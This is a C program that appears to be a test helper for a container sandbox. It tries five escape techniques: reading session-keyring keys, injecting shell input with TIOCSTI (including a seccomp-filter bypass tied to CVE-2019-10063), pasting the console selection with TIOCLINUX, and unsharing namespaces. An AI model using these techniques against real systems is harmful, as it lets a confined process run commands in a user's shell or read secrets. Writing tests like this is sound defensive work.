/* The attacks of a process in a container; the first argument selects one. Prints the data that a
 * successful attack has read. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

/* Constants of keyctl(2) from <linux/keyctl.h>, because libc has no wrapper. */
enum { kSessionKeyring = -3, kSearch = 10, kRead = 11 };

/* Reads the caller's key of that name through the session keyring. */
static int read_key(const char* name) {
  char payload[64];
  long key = syscall(SYS_keyctl, kSearch, kSessionKeyring, "user", name, 0);
  long size = key < 0 ? -1 : syscall(SYS_keyctl, kRead, key, payload, sizeof payload, 0);
  if (size < 0) return 1;
  printf("%.*s\n", (int)size, payload);
  return 0;
}

/* Types text into the terminal that is standard input. The caller's shell reads it after this
 * program has ended. */
static int type(const char* text, unsigned long request_bits) {
  for (; *text != '\0'; ++text) {
    if (syscall(SYS_ioctl, 0, TIOCSTI | request_bits, text) != 0) return 1;
  }
  return 0;
}

/* Pastes the selection into the console that is standard input. Returns 3 if that is forbidden, and
 * 1 if the kernel finds that the terminal is no console. */
static int paste(void) {
  char subcode = 3;
  if (syscall(SYS_ioctl, 0, TIOCLINUX, &subcode) == 0) return 0;
  return errno == EPERM ? 3 : 1;
}

static void write_file(const char* path, const char* text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0 || write(fd, text, strlen(text)) < 0) perror(path);
  close(fd);
}

/* Does what unshare(1) does, because busybox's cannot create cgroup namespaces. U, C and M stand
 * for user, cgroup and mnt. */
static int unshare_and_execute(const char* types, char** command) {
  int flags = 0;
  if (strchr(types, 'U') != NULL) flags |= CLONE_NEWUSER;
  if (strchr(types, 'C') != NULL) flags |= CLONE_NEWCGROUP;
  if (strchr(types, 'M') != NULL) flags |= CLONE_NEWNS;
  if (unshare(flags) != 0) {
    perror("unshare");
    return 1;
  }
  if ((flags & CLONE_NEWUSER) != 0) {
    write_file("/proc/self/setgroups", "deny");
    write_file("/proc/self/uid_map", "0 0 1");
    write_file("/proc/self/gid_map", "0 0 1");
  }
  execvp(command[0], command);
  return 127;
}

int main(int argc, char** argv) {
  const char* attack = argc > 1 ? argv[1] : "";
  const char* argument = argc > 2 ? argv[2] : "";
  if (strcmp(attack, "key") == 0) return read_key(argument);
  if (strcmp(attack, "type") == 0) return type(argument, 0);
  /* The kernel ignores the upper half of an ioctl's number, but a filter may not (CVE-2019-10063).
   */
  if (strcmp(attack, "type-high") == 0) return type(argument, 0x100000000UL);
  if (strcmp(attack, "paste") == 0) return paste();
  if (strcmp(attack, "unshare") == 0 && argc > 3) return unshare_and_execute(argument, argv + 3);
  fprintf(stderr, "attack: unshare TYPES COMMAND..., key NAME, type TEXT, type-high TEXT, paste\n");
  return 2;
}
